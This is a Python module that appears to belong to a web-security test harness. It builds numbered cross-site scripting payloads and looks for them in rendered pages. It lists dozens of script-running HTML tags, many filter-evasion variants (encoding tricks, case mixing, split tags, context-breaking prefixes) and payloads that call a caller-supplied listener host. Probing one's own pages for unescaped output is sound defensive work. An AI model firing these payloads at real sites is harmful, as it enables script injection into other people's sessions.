"""Texts that run as a program, or call another server, wherever a page does not escape them: for promise 29.

Comes in: the address of the listener that they call. Goes out: kinds, each with a number by which it is recognised in
a page (`x29n017`), in a mark that it sets on the window, and in what it asks of the listener.
"""

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import cycle, product
from random import Random

NAMED = re.compile(r"x29n(\d{3})")
"""How the number of a payload stands in a page."""
LONGEST_LOOK = 16
"""How many payloads are tried for the room that a text has."""
Effect = Callable[[int], str]

CARRIERS = (
    "<script>{run}</script>",
    "<script src=//{call}></script>",
    "<script type=module>{run}</script>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><image href=//{call} />",
    "<svg><use href=//{call}#x />",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<img src=x onerror={run}>",
    "<img src=//{call}>",
    '<img srcset="//{call} 1x">',
    "<picture><source srcset=//{call}><img></picture>",
    "<image src=x onerror={run}>",
    "<video><source onerror={run} src=x></video>",
    "<video poster=//{call}></video>",
    "<video src=//{call} autoplay></video>",
    "<audio src=x onerror={run}></audio>",
    "<iframe src=//{call}></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data=//{call}></object>",
    "<object data=x onerror={run}></object>",
    "<embed src=//{call}>",
    "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=//{call}>",
    "<link rel=preload as=image href=//{call}>",
    "<link rel=modulepreload href=//{call}>",
    "<link rel=stylesheet href=x onerror={run}>",
    "<style>@import '//{call}';</style>",
    "<style>*{{background:url(//{call})}}</style>",
    "<style onload={run}></style>",
    "<p style='background:url(//{call})'>x</p>",
    "<meta http-equiv=refresh content='0;url=//{call}'>",
    "<details open ontoggle={run}>x</details>",
    "<input autofocus onfocus={run}>",
    "<input type=image src=//{call}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<a href=x autofocus onfocus={run}>x</a>",
    "<p tabindex=0 autofocus onfocus={run}>x</p>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "<x style=animation:x29 onanimationend={run}>x</x><style>@keyframes x29{{}}</style>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form action=//{call}><input type=submit formaction=javascript:{run}></form>",
    "<base href=//{call}/><img src=x>",
)
ENDED = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "</select>",
    "</noscript>",
)
"""What may have to end first before a tag can begin."""
OTHER_FORMS = (
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    '" onerror={run} src=x x="',
    "' style='background:url(//{call})' x='",
    "x onmouseover={run} ",
    "';{run}//",
    '";{run}//',
    "\\';{run}//",
    '\\";{run}//',
    "'-({run})-'",
    "*/{run}/*",
    "\n{run}\n",
    "\u2028{run}//",
    "${{{run}}}",
    "`;{run}//",
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    "javascript://%0a{run}",
    "javascript&colon;{run}",
    "data:text/html,<script>{run}</script>",
    "//{call}",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script\t>",
    "<img/src=x/onerror={run}>",
    "<img\nsrc=x\nonerror={run}>",
    "<img\x0csrc=x\x0conerror={run}>",
    "<<img src=x onerror={run}>",
    "<img src=x onerror={run}//",
    '<img src=x onerror="{run}" alt=\'',
    "<img src=`x` onerror={run}>",
    "<svg/onload={run}",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "&lt;img src=x onerror={run}&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cimg src=x onerror={run}%3E",
    "\\u003cimg src=x onerror={run}\\u003e",
    "\\x3cimg src=x onerror={run}\\x3e",
    "+ADw-img src=x onerror={run}+AD4-",
    "＜img src=x onerror={run}＞",
    "\u202e<img src=x onerror={run}>",
    "\ufeff<img src=x onerror={run}>",
    "]]><img src=x onerror={run}>",
    "--!><img src=x onerror={run}>",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml?><img src=x onerror={run}>",
    "[x](javascript:{run})",
)


@dataclass(frozen=True)
class Payload:
    """A text that runs or calls. `number` stands in it, so that it is known wherever it turns up."""

    number: int
    text: str


def mark(number: int) -> str:
    """Sets a mark on the window of the page, also from a frame within it."""
    return f"top.x29n{number:03}=1"


def dialog(number: int) -> str:
    """Opens a dialog."""
    return f"alert('x29n{number:03}')"


def payloads(listener: str, *, count: int, effects: tuple[Effect, ...] = (mark, dialog)) -> list[Payload]:
    """The first so many kinds: no two have the same form. What they do by themselves changes from one to the next."""
    tried = cycle(effects)
    return [
        Payload(number, form.format(run=next(tried)(number), call=f"{listener}/x29n{number:03}"))
        for number, form in zip(range(count), forms(), strict=False)
    ]


def forms() -> Iterator[str]:
    """Other forms and plain tags first, then every tag behind everything that may have to end before it."""
    yield from (each for pair in zip(OTHER_FORMS, CARRIERS, strict=True) for each in pair)
    yield from ("x" + ended + carrier for ended, carrier in product(ENDED[1:], CARRIERS))


class Supply:
    """Gives texts of payloads, as many as there is room for; all kinds come before one comes again."""

    def __init__(self, kinds: list[Payload]) -> None:
        self.kinds, self.texts = kinds, 0
        self._waiting: list[Payload] = []
        self._chance = Random(29)  # so that no column gets the same few from row to row

    def text(self, room: int) -> str:
        """A text of at most so many letters; where the next ones do not fit, the shortest there is."""
        self.texts += 1
        text = ""
        for _ in range(LONGEST_LOOK):
            if not self._waiting:
                self._waiting = self._chance.sample(self.kinds, len(self.kinds))
            if len(text) + len(self._waiting[-1].text) <= room:
                text += self._waiting.pop().text
            else:
                self._waiting.insert(0, self._waiting.pop())
        return text or min((each.text for each in self.kinds), key=len)

    def line(self, room: int) -> str:
        """The same for a field of one line."""
        return " ".join(self.text(room).split())


def numbers_in(text: str) -> set[int]:
    """Which payloads stand in a page, in whatever form."""
    return {int(each) for each in NAMED.findall(text)}
